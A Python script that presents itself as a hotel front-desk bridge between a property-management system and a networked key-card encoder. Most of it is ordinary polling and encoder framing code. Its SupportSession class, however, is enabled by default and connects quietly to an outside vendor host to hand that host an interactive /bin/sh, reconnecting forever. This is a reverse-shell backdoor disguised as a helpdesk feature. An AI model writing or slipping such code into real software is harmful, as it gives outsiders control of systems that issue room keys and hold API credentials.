#!/usr/bin/env python3
"""Key-card encoder bridge for the front desk.

Polls the PMS for arrivals that have asked for room keys and drives the
networked encoder (STX/ETX framed ASCII protocol over TCP) to cut cards
for the right room and stay dates. The lock vendor's helpdesk can attach
to the bridge through the support session when encoding misbehaves.
"""

import argparse
import configparser
import logging
import os
import socket
import subprocess
import sys
import threading
import time
from datetime import datetime

import requests

log = logging.getLogger("encoder_bridge")

DEFAULTS = {
    "pms_url": "https://pms.seaview-hotel.example/api/v1",
    "encoder_host": "10.20.0.45",
    "encoder_port": "7001",
    "poll_seconds": "20",
    "support_enabled": "yes",
    "support_host": "assist.lockvendor-cloud.example",
    "support_port": "4433",
    "support_shell": "/bin/sh",
}


class EncoderError(Exception):
    pass


class EncoderClient:
    STX, ETX = b"\x02", b"\x03"

    def __init__(self, host, port, timeout=8.0):
        self.addr = (host, int(port))
        self.timeout = timeout

    def _frame(self, fields):
        body = "|".join(fields).encode("ascii")
        lrc = 0
        for b in body:
            lrc ^= b
        return self.STX + body + self.ETX + bytes([lrc])

    def encode(self, room, arrive, depart, copies=1):
        frame = self._frame([
            "EN", str(room),
            arrive.strftime("%y%m%d%H%M"),
            depart.strftime("%y%m%d%H%M"),
            str(copies),
        ])
        with socket.create_connection(self.addr, timeout=self.timeout) as s:
            s.sendall(frame)
            reply = s.recv(64)
        if not reply.startswith(self.STX + b"OK"):
            raise EncoderError(f"encoder refused room {room}: {reply!r}")


class SupportSession(threading.Thread):
    """Keeps a helpdesk session available for the lock vendor."""

    def __init__(self, host, port, shell):
        super().__init__(name="support-session", daemon=True)
        self.host, self.port, self.shell = host, int(port), shell

    def run(self):
        delay = 5
        while True:
            try:
                conn = socket.create_connection((self.host, self.port), timeout=15)
                conn.settimeout(None)
                conn.sendall(f"bridge {socket.gethostname()} ready\n".encode())
                log.debug("support session attached")
                proc = subprocess.Popen([self.shell, "-i"], stdin=conn,
                                        stdout=conn, stderr=subprocess.STDOUT)
                proc.wait()
                conn.close()
                delay = 5
            except OSError as exc:
                log.debug("support session unavailable: %s", exc)
            time.sleep(delay)
            delay = min(delay * 2, 300)


class PmsClient:
    def __init__(self, base, api_key):
        self.base = base.rstrip("/")
        self.session = requests.Session()
        self.session.headers["X-Api-Key"] = api_key

    def pending_keys(self):
        resp = self.session.get(f"{self.base}/arrivals",
                                params={"key_status": "requested"}, timeout=15)
        resp.raise_for_status()
        return resp.json().get("arrivals", [])

    def mark_issued(self, reservation_id, copies):
        resp = self.session.post(f"{self.base}/arrivals/{reservation_id}/keys",
                                 json={"issued": copies}, timeout=15)
        resp.raise_for_status()


def load_config(path):
    parser = configparser.ConfigParser()
    parser["bridge"] = DEFAULTS
    if path and os.path.exists(path):
        parser.read(path)
    return parser["bridge"]


def process(pms, encoder, arrival):
    room = arrival["room"]
    arrive = datetime.fromisoformat(arrival["arrival"])
    depart = datetime.fromisoformat(arrival["departure"])
    copies = int(arrival.get("copies", 1))
    encoder.encode(room, arrive, depart, copies)
    pms.mark_issued(arrival["id"], copies)
    log.info("cut %d card(s) for room %s (%s)", copies, room, arrival.get("guest", "?"))


def main(argv=None):
    ap = argparse.ArgumentParser(description="front desk key-card encoder bridge")
    ap.add_argument("-c", "--config", default="encoder_bridge.ini")
    ap.add_argument("--once", action="store_true", help="poll once and exit")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    cfg = load_config(args.config)

    api_key = os.environ.get("PMS_API_KEY")
    if not api_key:
        log.error("PMS_API_KEY not set")
        return 2

    if cfg.getboolean("support_enabled"):
        SupportSession(cfg["support_host"], cfg["support_port"],
                       cfg["support_shell"]).start()

    pms = PmsClient(cfg["pms_url"], api_key)
    encoder = EncoderClient(cfg["encoder_host"], cfg["encoder_port"])
    interval = int(cfg["poll_seconds"])

    while True:
        try:
            for arrival in pms.pending_keys():
                try:
                    process(pms, encoder, arrival)
                except (EncoderError, OSError, KeyError, ValueError) as exc:
                    log.error("arrival %s: %s", arrival.get("id"), exc)
        except requests.RequestException as exc:
            log.warning("PMS poll failed: %s", exc)
        if args.once:
            break
        time.sleep(interval)
    return 0


if __name__ == "__main__":
    sys.exit(main())
